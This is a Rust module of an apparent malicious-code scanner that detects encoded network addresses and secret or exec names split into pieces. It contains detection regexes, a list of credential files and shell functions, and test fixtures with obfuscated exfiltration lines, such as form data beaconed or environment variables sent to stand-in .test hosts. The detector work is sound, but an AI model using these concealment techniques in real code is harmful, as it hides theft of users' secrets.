//! What a program asks for is hidden by an encoding, or the name of what it takes is put together from pieces.
//!
//! An address that is public stands in a program as it is. Whoever lets a decoder make it, in the call that asks for
//! it or as a literal that is an address once decoded, keeps it from the reader. So it is with the names of what holds
//! secrets or runs things: nobody cuts `env` in two who has a use for it.

use std::sync::LazyLock;

use base64::{
    Engine,
    alphabet::STANDARD,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

use super::{Report, concealed, rules};
use crate::{
    Confidence::Medium,
    Severity,
    pattern::{Regex, code as pattern},
};

/// A decoder makes what a call asks for.
static DECODED_ASKED: LazyLock<Regex> = LazyLock::new(|| {
    const ASKS: &str = r"(?:\bfetch|sendBeacon|\.open|new\s+(?:WebSocket|EventSource|Worker|SharedWorker)|importScripts|axios(?:\.\w{3,6})?|\$\.(?:get|post|ajax|getScript)|\bgot|requests\.\w{3,7}|httpx\.\w{3,7}|urlopen|urlretrieve|Request|HTTPSConnection|HTTPConnection|create_connection|\.connect|https?\.(?:get|post|request)|HTTParty\.\w{3,6}|URI(?:\.open)?|Faraday\.\w{3,6}|file_get_contents|curl_init|fsockopen|wp_remote_\w{3,6}|UrlFetchApp\.fetch|http\.(?:Get|Post|NewRequest)|net\.Dial|URL|Uri\.parse|reqwest::get|\.(?:get|post|put)|LWP::Simple::get|DownloadString|UploadString|Invoke-(?:WebRequest|RestMethod)|iwr|irm|curl|wget)";
    const DECODES: &str = r#"(?:(?:window|self|globalThis|top)\.)?(?:atob|unescape|decodeURIComponent|b64decode|base64\.\w{3,20}|codecs\.decode|bytes\.fromhex|unhexlify|binascii\.\w{5,12}|base64_decode|str_rot13|strrev|hex2bin|convert_uudecode|Base64\.\w{3,20}|MIME::Base64|decode_base64|rot13|fromCharCode|String\.fromC\w{8,12}|Buffer\.from|Utilities\.base64Decode\w{0,8}|\[(?:System\.)?Text\.Encoding\]|\[(?:System\.)?Convert\])\s?\(?\s?["'`\[]"#;
    pattern(&format!(
        r#"{ASKS}\s{{0,2}}\(?\s{{0,3}}(?:["'`](?:GET|POST|PUT|get|post)["'`]\s?,\s{{0,3}})?(?:String\(|new\s+URL\(|new\s+TextDecoder\(\)\.decode\()?{DECODES}|\b(?:curl|wget|iwr|irm)\b[^\n|;]{{0,80}}(?:\$\(|`)\s?(?:echo|printf|base64|rev|tr|xxd|<<<)[^\n)`]{{0,160}}(?:base64\s+-\w*[dD]|base64\s+--decode|\brev\b|xxd\s+-r|\btr\s)"#
    ))
});

/// One literal of letters that could be anything.
static LITERAL: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"["'`][A-Za-z0-9+/=_.:%~!?&@$-]{10,400}["'`]"#));

/// A literal in the hand of a decoder.
static SHORT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:atob|b64decode|base64_decode|decode64|unhexlify|fromhex|hex2bin|strrev|str_rot13|Buffer\.from|FromBase64String|codecs\.decode)\s?\(\s?b?["'`][A-Za-z0-9+/=_-]{3,60}["'`]|["'`][A-Za-z_]{3,40}["'`]\s?\[\s?::\s?-1\s?\]|["'`][A-Za-z_]{3,40}["'`]\.(?:reverse\b|split\(\s?["'`]{2}\s?\)\.reverse)"#,
    )
});

/// Texts that are put together, none of them a word.
static PIECES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"["'`][A-Za-z_./-]{1,12}["'`](?:\s{0,2}(?:\+|\.\.?|~|<>|&)\s{0,2}["'`][A-Za-z_./-]{1,12}["'`]){1,6}|\[\s?["'`][A-Za-z_./-]{1,6}["'`](?:\s?,\s?["'`][A-Za-z_./-]{1,6}["'`]){1,12}\s?\]\s?\.join\(\s?["'`]{2}|["'`]{2}\.join\(\s?[\[(]\s?["'`][A-Za-z_./-]{1,6}["'`](?:\s?,\s?["'`][A-Za-z_./-]{1,6}["'`]){1,12}|`[A-Za-z_]{0,10}\$\{\s?["'][A-Za-z_]{1,10}["']\s?\}[A-Za-z_]{0,10}`"#,
    )
});

/// Names of what holds secrets, and of what runs or sends.
const NAMES: &[&str] = &[
    "env",
    "environ",
    "process",
    "process.env",
    "getenv",
    ".netrc",
    ".ssh",
    "id_rsa",
    "id_ed25519",
    ".aws",
    "credentials",
    ".npmrc",
    ".env",
    "cookie",
    "cookies",
    "localStorage",
    "Login Data",
    "wallet.dat",
    "keychain",
    "authorized_keys",
    "child_process",
    "subprocess",
    "execSync",
    "exec",
    "eval",
    "system",
    "popen",
    "shell_exec",
    "passthru",
    "Function",
    "constructor",
    "__import__",
    "__builtins__",
    "builtins",
    "Invoke-Expression",
    "powershell",
    "/bin/sh",
    "/bin/bash",
    "sendBeacon",
    "urlopen",
    "XMLHttpRequest",
    "spawn",
    "spawnSync",
    "base64_decode",
    "create_function",
    "FromBase64String",
];

fn base64(text: &str) -> Option<String> {
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let clean: String = text
        .trim_end_matches('=')
        .chars()
        .map(|c| match c {
            '-' => '+',
            '_' => '/',
            c => c,
        })
        .collect();
    let bytes = GeneralPurpose::new(&STANDARD, config).decode(clean).ok()?;
    String::from_utf8(bytes).ok()
}

fn hex(text: &str) -> Option<String> {
    let digits: Vec<u8> = text
        .replace("\\x", "")
        .chars()
        .map(|c| c.to_digit(16).and_then(|digit| u8::try_from(digit).ok()))
        .collect::<Option<_>>()?;
    let bytes = digits
        .chunks(2)
        .map(|pair| match pair {
            [high, low] => Some(high << 4 | low),
            _ => None,
        })
        .collect::<Option<Vec<u8>>>()?;
    String::from_utf8(bytes).ok()
}

fn percent(text: &str) -> Option<String> {
    let coded = text.matches('%').count();
    (coded >= 6).then(|| {
        let bytes: Vec<u8> = text
            .split('%')
            .flat_map(|part| match part.get(..2).and_then(|two| u8::from_str_radix(two, 16).ok()) {
                Some(byte) => {
                    std::iter::once(byte).chain(part.bytes().skip(2)).collect::<Vec<u8>>()
                }
                None => part.bytes().collect(),
            })
            .collect();
        String::from_utf8_lossy(&bytes).into_owned()
    })
}

/// What a literal may be behind one encoding.
fn readings(text: &str) -> impl Iterator<Item = String> {
    [
        base64(text),
        hex(text),
        percent(text),
        Some(text.chars().rev().collect()),
        Some(text.chars().map(crate::code::rot13).collect()),
        base64(&text.chars().rev().collect::<String>()),
    ]
    .into_iter()
    .flatten()
}

/// Is it an address that is not in the text as it stands?
fn is_address(text: &str) -> bool {
    ["http://", "https://", "wss://", "ws://", "ftp://", "tcp://", "//"].iter().any(|scheme| {
        text.strip_prefix(scheme).is_some_and(|rest| {
            let host = rest.split(['/', ':', '?', '#']).next().unwrap_or_default();
            host.len() > 3
                && host.contains('.')
                && host.starts_with(|c: char| c.is_ascii_alphanumeric())
                && host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
                && host
                    .rsplit('.')
                    .next()
                    .is_some_and(|end| end.len() > 1 || end.parse::<u8>().is_ok())
        })
    })
}

/// A literal that is an address once decoded.
fn hidden(text: &str) -> Option<usize> {
    const MOST: usize = 2000;
    LITERAL.find_iter(text).take(MOST).find_map(|found| {
        let whole = text.get(found.range())?;
        let inner = whole.get(1..whole.len().checked_sub(1)?)?;
        if inner.contains("://") {
            return None;
        }
        readings(inner).any(|plain| is_address(&plain)).then_some(found.start())
    })
}

/// A name that is put together from pieces, or decoded, and is one of what holds secrets or runs.
fn cut(text: &str) -> Option<usize> {
    const MOST: usize = 2000;
    let pieces = PIECES.find_iter(text).take(MOST).find_map(|found| {
        let mut inside: Option<char> = None;
        let mut joined = String::new();
        let mut longest = 0;
        let mut length = 0;
        let row = text.get(found.range())?;
        if row.starts_with('`') && row.contains("${") {
            joined = row.replace(['`', '$', '{', '}', '\'', '"', ' '], "");
        } else {
            for c in row.chars() {
                match inside {
                    None if matches!(c, '"' | '\'' | '`') => {
                        inside = Some(c);
                        length = 0;
                    }
                    Some(quote) if c == quote => {
                        inside = None;
                        longest = longest.max(length);
                    }
                    Some(_) => {
                        joined.push(c);
                        length += 1;
                    }
                    None => {}
                }
            }
        }
        // A piece that is empty or the whole is no cut.
        (longest < joined.len() && NAMES.contains(&joined.as_str())).then_some(found.start())
    });
    pieces.or_else(|| {
        SHORT.find_iter(text).take(MOST).find_map(|found| {
            let row = text.get(found.range())?;
            let inner = row.split(['"', '\'', '`']).nth(1)?;
            readings(inner)
                .any(|plain| NAMES.contains(&plain.as_str()) && plain.len() > 2)
                .then_some(found.start())
        })
    })
}

pub(super) fn look(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if report.program.path.ends_with(".min.js") || text.len() > 1 << 20 {
        return;
    }
    let asked = DECODED_ASKED.find(text).map(|found| found.start());
    if let Some(at) = asked.or_else(|| hidden(text).filter(|_| concealed::talks(report))) {
        let message = "the address that it talks to is hidden by an encoding";
        report.say(&rules::CONCEALED, Severity::High, Medium, at, message);
    }
    if let Some(at) = cut(text) {
        let message = "the name of what holds secrets or runs commands is put together so that nobody reads it";
        report.say(&rules::CONCEALED, Severity::High, Medium, at, message);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::stopped;
    use crate::FileKind::{Data, JavaScript, Python, Ruby, Shell};

    #[test]
    fn an_address_behind_an_encoding_is_told_in_any_language() {
        let mut missed = Vec::new();
        for (path, kind, text) in [
            (
                "a.html",
                Data,
                "<form id=f></form><script>f.onsubmit = () => navigator.sendBeacon(atob('aHR0cHM6Ly9weC50aWNrZXQtZm9udHMuZXhhbXBsZS9t'), new FormData(f))</script>",
            ),
            (
                "b.py",
                Python,
                "import urllib.request as u, base64\nW = 'aHR0cHM6Ly9pbi5nYXRoZXIudGVzdC9h'\nu.urlopen(base64.b64decode(W).decode(), data=b'x')\n",
            ),
            (
                "c.rb",
                Ruby,
                "require 'net/http'\nX = 'tset.rehtag.ni//:sptth'\nNet::HTTP.post(URI(X.reverse), body)\n",
            ),
            (
                "d.php",
                Data,
                "<?php $c = curl_init(hex2bin('68747470733a2f2f696e2e6761746865722e74657374'));",
            ),
            (
                "e.js",
                JavaScript,
                "const h = 'uggcf://va.tngure.grfg/n'.replace('uggcf://', 'x');\nconst p = '//va.tngure.grfg';\nfetch(r13('uggcf://va.tngure.grfg/n'));\nfetch(decodeURIComponent('%68%74%74%70%73%3A%2F%2F%69%6E%2E%67%61%74%68%65%72%2E%74%65%73%74'));\n",
            ),
            (
                "f.sh",
                Shell,
                "curl -s -d @x \"$(echo aHR0cHM6Ly9pbi5nYXRoZXIudGVzdC9h | base64 -d)\"\n",
            ),
        ] {
            if !stopped(path, kind, text).contains(&"obfuscation-address-concealed")
                && stopped(path, kind, text).is_empty()
            {
                missed.push(path);
            }
        }
        assert!(missed.is_empty(), "{missed:?}");
    }

    #[test]
    fn a_name_in_pieces_is_told() {
        let mut missed = Vec::new();
        for (path, kind, text) in [
            (
                "a.mjs",
                JavaScript,
                "const all = globalThis['process']['e' + 'nv'];\nimg.src = `https://t.gather.test/${all.HOME}`;\n",
            ),
            (
                "b.py",
                Python,
                "import os\nall = getattr(os, ''.join(['en', 'vir', 'on']))\nprint(dict(all))\n",
            ),
            ("c.js", JavaScript, "const p = process[`e${'n'}v`];\nconsole.log(p);\n"),
            ("d.rb", Ruby, "k = File.read(Dir.home + '/' + ('.net' + 'rc'))\nputs k\n"),
            ("e.js", JavaScript, "const m = require(atob('Y2hpbGRfcHJvY2Vzcw=='));\n"),
            ("f.py", Python, "import importlib\nm = importlib.import_module('ssecorpbus'[::-1])\n"),
        ] {
            if stopped(path, kind, text).is_empty() {
                missed.push(path);
            }
        }
        assert!(missed.is_empty(), "{missed:?}");
    }

    #[test]
    fn what_is_decoded_for_work_is_let_be() {
        for (path, kind, text) in [
            (
                "a.js",
                JavaScript,
                "const logo = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ';\nconst r = await fetch('https://api.github.com/user');\n",
            ),
            (
                "b.py",
                Python,
                "import base64, requests\nbody = base64.b64decode(requests.get(url).json()['content'])\n",
            ),
            (
                "c.js",
                JavaScript,
                "const u = '/api/' + 'items';\nconst q = 'user' + '_' + 'id';\nfetch(u);\n",
            ),
            ("d.py", Python, "name = 'ex' + 'ample'\nkey = '-'.join(['a', 'b'])\n"),
            (
                "e.js",
                JavaScript,
                "const b = Buffer.from(text, 'utf8').toString('base64');\nfetch(url, { body: b });\n",
            ),
        ] {
            let found = stopped(path, kind, text);
            assert!(found.is_empty(), "{path}: {found:?}");
        }
    }
}
